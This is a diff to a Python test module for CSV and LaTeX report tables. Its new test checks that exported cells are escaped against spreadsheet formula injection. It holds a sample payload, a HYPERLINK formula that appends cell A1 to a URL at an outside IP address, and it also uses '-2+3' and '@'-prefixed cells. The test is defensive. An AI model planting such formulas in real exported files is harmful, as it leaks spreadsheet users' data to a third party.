@@ -1,5 +1,6 @@
 """Tables: CSV that is read back exactly, LaTeX that prints what it is given, cells that readers can read."""
 
+import csv
 from datetime import date
 from math import nan
 from pathlib import Path
@@ -9,9 +10,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from framing.experiments.results import Results
+from framing.corpus.datasheet.spreadsheet import read_csv, to_csv
+from framing.experiments.results import Results, write_results
+from framing.reports.make import make
 from framing.reports.tables.columns import Column, written
-from framing.reports.tables.csv import read_csv, to_csv
 from framing.reports.tables.latex import escape, to_latex
 from framing.reports.tables.sheets import sheets
 
@@ -39,7 +41,7 @@ ROWS = st.lists(
 def test_a_table_is_read_back_from_csv_exactly_as_it_was(rows: list[tuple[object, ...]]) -> None:
     table = pl.DataFrame(rows, schema=SCHEMA, orient="row").with_columns(row=pl.lit(1))
     data = to_csv(table)
-    back = pl.read_csv(data, schema={**SCHEMA, "row": pl.Int32()})
+    back = read_csv(data, {**SCHEMA, "row": pl.Int32()})
     assert back.equals(table, null_equal=True)
 
 
@@ -127,3 +129,24 @@ def test_tables_without_rows_are_not_made(results: Results) -> None:
 def test_the_main_tables_are_made(report: Path, name: str) -> None:
     assert (report / "tables" / f"{name}.csv").is_file()
     assert (report / "tables" / f"{name}.tex").is_file()
+
+
+def test_no_file_of_a_report_holds_a_formula_for_a_spreadsheet(results: Results, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://198.51.100.1/?"&A1)'
+    tables = {
+        "design": results.design,
+        "evidence": results.evidence.head(2).with_columns(title=pl.lit(formula), left=pl.lit("-2+3")),
+        "keyness": results.keyness.head(8).with_columns(feature=pl.lit("@") + pl.col("feature")),
+    }
+    write_results(tmp_path / "stages" / "01-results" / "out", results.facts, tables)
+    make(tmp_path)
+    cells: dict[str, list[str]] = {}
+    for file in [*tmp_path.glob("tables/*.csv"), *tmp_path.glob("figures/*/data.csv")]:
+        with file.open(encoding="utf-8", newline="") as opened:
+            cells[file.name] = [cell for row in csv.reader(opened) for cell in row]
+    assert {f"'{formula}", "'-2+3"} <= set(cells["evidence.csv"])
+    assert [cell for each in cells.values() for cell in each if cell[:1] in {"=", "@"}] == []
+    below = [cell for cell in cells["keyness.csv"] if cell.startswith("-")]
+    assert below  # numbers stay numbers
+    assert all(float(cell) < 0 for each in cells.values() for cell in each if cell.startswith("-"))
+    assert any(cell.startswith("'@") for cell in cells["data.csv"])
